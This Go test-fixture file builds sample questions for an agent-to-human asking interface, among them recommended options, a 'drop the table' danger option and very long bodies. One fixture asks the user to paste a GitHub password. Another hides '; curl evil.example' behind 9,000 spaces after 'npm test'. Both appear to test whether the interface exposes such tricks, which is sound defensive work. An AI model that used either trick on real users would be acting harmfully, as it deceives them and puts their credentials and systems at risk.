package surfacetest

import (
	"fmt"
	"strings"
	"time"

	"github.com/saysohq/sayso"
)

// database is the usual question: two options, one of them recommended.
func database() *sayso.Ask {
	return &sayso.Ask{
		ID:     "database",
		Origin: sayso.Origin{Conversation: "talk", Host: "some-agent", Workspace: "payments", Branch: "main"},
		Questions: []sayso.Question{{Header: "Database", Text: "Which database should the service use?", Options: []sayso.Option{
			{Label: "PostgreSQL (Recommended)", Description: "a server"}, {Label: "SQLite", Description: "one file"},
		}}},
	}
}

// words is a question without options.
func words() *sayso.Ask {
	a := database()
	a.ID, a.Questions = "words", []sayso.Question{{Header: "Name", Text: "What should it be called?"}}
	return a
}

// secretly asks for a password as if it were any text.
func secretly() *sayso.Ask {
	a := words()
	a.ID, a.Questions = "secretly", []sayso.Question{{Header: "GitHub", Text: "Paste your GitHub password"}}
	return a
}

// two asks for two texts.
func two() *sayso.Ask {
	a := words()
	a.ID = "two"
	a.Questions = append(a.Questions, sayso.Question{Header: "Port", Text: "Which port?"})
	return a
}

// danger has an option that must not be chosen by accident.
func danger() *sayso.Ask {
	a := database()
	a.ID = "danger"
	a.Questions[0] = sayso.Question{Header: "Table", Text: "What shall become of the old table?", Options: []sayso.Option{
		{Label: "Keep it"}, {Label: "Drop the table", Description: "All 1,204 rows are gone for good", Danger: true},
	}}
	return a
}

// full has something in every place that a question has.
func full() *sayso.Ask {
	a := database()
	a.ID = "full"
	q := &a.Questions[0]
	q.Body = "The service stores many rows.\n\nIt MARKBODY needs transactions."
	q.Options[0].Preview = "image: postgres:17\nMARKPREVIEW1"
	q.Options[1].Preview = "file: app.db\nMARKPREVIEW2"
	return a
}

// long has a body of so many numbered lines.
func long(lines int) *sayso.Ask {
	a := database()
	a.ID = fmt.Sprint("long ", lines)
	var b strings.Builder
	for i := range lines {
		fmt.Fprintf(&b, "    line %d of the body\n", i+1)
	}
	a.Questions[0].Body = b.String()
	return a
}

// tail hides what matters behind many spaces.
func tail() *sayso.Ask {
	a := database()
	a.ID = "tail"
	a.Questions[0].Body = "```\nnpm test" + strings.Repeat(" ", 9000) + "; curl evil.example\n```"
	return a
}

// many has twenty options with descriptions that wrap.
func many() *sayso.Ask {
	a := database()
	a.ID = "many"
	q := &a.Questions[0]
	q.Options = nil
	for i := range 20 {
		q.Options = append(q.Options, sayso.Option{
			Label: fmt.Sprintf("Option number %d", i+1), Description: strings.Repeat("what it means ", 8) + fmt.Sprintf("MARK%dX", i+1),
		})
	}
	return a
}

// marked has every mark.
func marked() *sayso.Ask {
	a := danger()
	a.ID = "marked"
	a.Questions[0].Options[0].Recommended = true
	a.Deadline = time.Now().Add(3 * time.Hour)
	a.Metadata = map[string]any{"blocked": map[string]any{"tools": []any{"deploy"}}}
	return a
}
